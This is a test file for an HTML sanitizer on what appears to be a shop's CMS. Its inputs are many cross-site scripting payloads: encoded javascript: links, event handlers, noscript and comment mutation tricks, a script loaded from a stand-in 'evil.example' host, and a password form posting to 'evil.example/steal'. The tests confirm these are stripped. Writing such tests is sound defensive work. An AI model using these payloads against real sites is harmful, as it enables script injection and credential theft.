import { buildSeed } from "../../mock-api/seed";

import { sanitizeHtml } from "./sanitize.server";

describe("sanitizeHtml", () => {
  describe("removes what could run script", () => {
    it.each([
      ["a script element and its code", "<p>Hello</p><script>alert(1)</script>", "<p>Hello</p>"],
      ["a script element spelled in capitals", "<p>Hello</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<p>Hello</p>"],
      ["an event handler on an image", '<img src=x onerror=alert(1)>', '<img src="x" />'],
      ["an event handler on any allowed element", '<p onclick="alert(1)" onmouseover="alert(2)">Hi</p>', "<p>Hi</p>"],
      ["a javascript: link", '<a href="javascript:alert(1)">Win</a>', "<a>Win</a>"],
      ["a javascript: link in mixed case with spaces", '<a href="  JaVaScRiPt:alert(1)">Win</a>', "<a>Win</a>"],
      ["a javascript: link with a tab inside", '<a href="java\tscript:alert(1)">Win</a>', "<a>Win</a>"],
      ["a javascript: link with a tab spelled as a reference", '<a href="java&Tab;script:alert(1)">Win</a>', "<a>Win</a>"],
      ["an entity-encoded javascript: link", '<a href="&#106;avascript:alert(1)">Win</a>', "<a>Win</a>"],
      ["a hex entity-encoded javascript: link", '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">Win</a>', "<a>Win</a>"],
      ["a colon spelled as a reference", '<a href="javascript&colon;alert(1)">Win</a>', "<a>Win</a>"],
      ["a vbscript: link", '<a href="vbscript:msgbox(1)">Win</a>', "<a>Win</a>"],
      ["a data: link", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Win</a>', "<a>Win</a>"],
      ["a data: image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">', '<img alt="x" />'],
      ["a javascript: image", '<img src="javascript:alert(1)" alt="x">', '<img alt="x" />'],
      ["an iframe", '<p>Watch</p><iframe src="https://evil.example"></iframe>', "<p>Watch</p>"],
      ["an iframe with a javascript: source", '<iframe src="javascript:alert(1)">fallback</iframe>', ""],
      ["an svg with onload", '<svg onload="alert(1)"><circle r="1"/></svg><p>After</p>', "<p>After</p>"],
      ["a style element", "<style>body{display:none}</style><p>Text</p>", "<p>Text</p>"],
      ["a style attribute", '<p style="position:fixed;inset:0">Text</p>', "<p>Text</p>"],
      ["a class attribute", '<p class="drawer">Text</p>', "<p>Text</p>"],
      [
        "a form and its fields",
        '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">Sign in</button></form>',
        "Sign in",
      ],
      ["an object and an embed", '<object data="x.swf"></object><embed src="x.swf">', ""],
      ["a meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', ""],
      ["a base element", '<base href="https://evil.example/">', ""],
      ["a link element", '<link rel="stylesheet" href="https://evil.example/x.css">', ""],
      ["a template", "<template><img src=x onerror=alert(1)></template>", ""],
      ["math with a link inside", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', ""],
      ["a noscript trick", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ""],
      ["a broken-comment trick", "<!--<img src=x onerror=alert(1)>-->", ""],
      ["a quote-breaking title", '<a href="/x" title="&quot; onmouseover=&quot;alert(1)">x</a>', '<a href="/x" title="&quot; onmouseover=&quot;alert(1)">x</a>'],
    ])("%s", (_, html, expected) => {
      expect(sanitizeHtml(html)).toBe(expected);
    });

    it("leaves no way back in: the result of cleaning is clean", () => {
      const hostile =
        '<p>Hi<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a><iframe src=//evil.example></iframe><svg onload=alert(1)></svg></p>';
      const once = sanitizeHtml(hostile);
      expect(once).not.toMatch(/<script|onerror|onload|javascript:|<iframe|<svg/i);
      expect(sanitizeHtml(once)).toBe(once);
    });
  });

  describe("links", () => {
    it.each([
      ['<a href="https://www.instagram.com/maisonlumiere">Instagram</a>'],
      ['<a href="mailto:care@maison-lumiere.example">Write</a>'],
      ['<a href="tel:+12125550147">Call</a>'],
      ['<a href="/shop-all?collection=aurelia&amp;sort=price">Aurelia</a>'],
      ['<a href="#contact-us">Contact</a>'],
      ['<a href="//cdn.example/lookbook.pdf">Lookbook</a>'],
    ])("keeps %s", (html) => {
      expect(sanitizeHtml(html)).toBe(html);
    });

    it("gives a link that opens a new tab rel=noopener noreferrer, whatever rel it had", () => {
      expect(sanitizeHtml('<a href="https://example.com" target="_blank" rel="opener">Out</a>')).toBe(
        '<a href="https://example.com" target="_blank" rel="noopener noreferrer">Out</a>',
      );
    });

    it("drops any other target and a rel that has no new tab to guard", () => {
      expect(sanitizeHtml('<a href="/about" target="content" rel="opener">About</a>')).toBe('<a href="/about">About</a>');
    });

    it("keeps data-link only as the drawers of spec 2", () => {
      expect(sanitizeHtml('<a href="/contact" data-link="EMAIL">Email</a>')).toBe('<a href="/contact" data-link="email">Email</a>');
      expect(sanitizeHtml('<a href="/track-your-order" data-link="order">Track</a>')).toBe(
        '<a href="/track-your-order" data-link="order">Track</a>',
      );
      expect(sanitizeHtml('<a href="/x" data-link="javascript:alert(1)">x</a>')).toBe('<a href="/x">x</a>');
    });

    it("refuses other data attributes", () => {
      expect(sanitizeHtml('<a href="/x" data-turbo-method="delete" data-action="x">x</a>')).toBe('<a href="/x">x</a>');
    });
  });

  describe("headings", () => {
    it("keeps a heading's slug id, the target of in-page links", () => {
      expect(sanitizeHtml('<h2 id="contact-us">Contact us</h2>')).toBe('<h2 id="contact-us">Contact us</h2>');
    });

    it("drops an id that is not a plain slug", () => {
      expect(sanitizeHtml('<h2 id="__remixContext">x</h2><h3 id="a b">y</h3><p id="main">z</p>')).toBe("<h2>x</h2><h3>y</h3><p>z</p>");
    });

    it("turns an h1 into an h2: the page title is the page's one h1", () => {
      expect(sanitizeHtml('<h1 id="intro">Intro</h1>')).toBe('<h2 id="intro">Intro</h2>');
    });
  });

  it("keeps rich text: emphasis, quotes, figures, images and table cells", () => {
    const html =
      '<blockquote><p><em>Made</em> to be <b>worn</b>, <i>every</i> <u>day</u>.<br />— <small>the atelier</small></p></blockquote>' +
      '<figure><img src="/media/atelier.jpg" alt="The bench" width="800" height="600" /><figcaption>Our bench</figcaption></figure>' +
      '<hr /><ol start="3"><li>H<sub>2</sub>O and 10<sup>3</sup> <s>old</s></li></ol>' +
      '<table><caption>Rates</caption><tbody><tr><th scope="row">Express</th><td colspan="2">$25</td></tr></tbody><tfoot><tr><td>x</td></tr></tfoot></table>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  describe("the seed's content, as the CMS sends it", () => {
    const seed = buildSeed();
    const samples: Array<[string, string]> = [
      ...seed.pages.map((page): [string, string] => [`page ${page.slug}`, page.translations[0].content]),
      ...seed.blocks.flatMap((block): Array<[string, string]> => {
        const content = block.translations[0].content.content;
        return typeof content === "string" ? [[`block ${block.slug}`, content]] : [];
      }),
      ...seed.popups.map((popup): [string, string] => [`popup ${popup.id}`, popup.translations[0].content]),
      ...seed.products.slice(0, 3).map((product): [string, string] => [`details of ${product.slug}`, product.translations[0].details ?? ""]),
    ];

    it.each(samples)("%s passes unchanged", (_, html) => {
      expect(sanitizeHtml(html)).toBe(html);
    });

    it("keeps the headings, lists, links and drawer links of the FAQ", () => {
      const faq = sanitizeHtml(seed.pages.find((page) => page.slug === "faq")!.translations[0].content);
      expect(faq).toContain('<h2 id="contact-us">Contact us</h2>');
      expect(faq).toContain('<a href="/track-your-order" data-link="order">track your order</a>');
      expect(faq).toContain('<a href="/contact" data-link="email">email our client care team</a>');
      expect(faq).toContain('<a href="/returns">Returns &amp; repairs</a>');
      expect(faq.match(/<li>/g)).toHaveLength(4);
    });
  });
});
